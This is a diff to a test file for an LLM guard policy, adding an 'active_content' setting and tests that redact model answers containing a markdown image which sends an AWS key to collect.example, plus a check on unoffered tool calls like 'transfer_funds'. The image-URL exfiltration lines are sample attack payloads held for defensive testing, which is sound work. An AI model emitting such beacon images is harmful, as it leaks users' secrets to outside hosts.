@@ -26,6 +26,7 @@ const ALL_OFF = {
   secrets: { input: 'off', output: 'off' },
   leak: { output: 'off' },
   tools: { action: 'off', validate_arguments: false },
+  active_content: { output: 'off', sql: 'off' },
   canary: false,
 };
 
@@ -103,6 +104,7 @@ describe('the default guard policy', () => {
       secrets: { input: 'mask', output: 'flag' },
       leak: { output: 'block' },
       tools: { action: 'block', validate_arguments: true },
+      active_content: { output: 'redact', sql: 'flag', allowed_hosts: [] },
       canary: true,
       context_marking: false,
     });
@@ -162,6 +164,12 @@ describe('the default guard policy', () => {
     ]);
   });
 
+  it('redacts an answer’s image that sends data to an outside host', async () => {
+    oai.enqueue({ text: `Done ![x](https://collect.example/p.png?d=${AWS_KEY})` });
+    const r = await chat([{ role: 'user', content: 'Summarise the ticket' }]);
+    expect(r.content).toBe('Done [REDACTED:active.markdown_image]');
+  });
+
   it('stops a call to a tool the request did not offer', async () => {
     oai.enqueue({ toolCalls: [{ name: 'transfer_funds', arguments: '{}' }] });
     const r = await chat([{ role: 'user', content: 'Pay my bill' }], { tools: [WEATHER_TOOL] });
@@ -198,6 +206,10 @@ describe('a use case with every part switched off', () => {
     expect(
       (await chat([{ role: 'user', content: 'Pay my bill' }], { key, tools: [WEATHER_TOOL] })).status,
     ).toBe(200);
+    oai.enqueue({ text: 'Done ![x](https://collect.example/p.png?d=c2VjcmV0)' });
+    expect((await chat([{ role: 'user', content: 'Summarise' }], { key })).content).toContain(
+      'collect.example',
+    );
 
     // A default-policy call after them: once its event is written, theirs would be too.
     await eventsOf((await chat([{ role: 'user', content: 'Mail me at grace@example.com' }])).requestId);
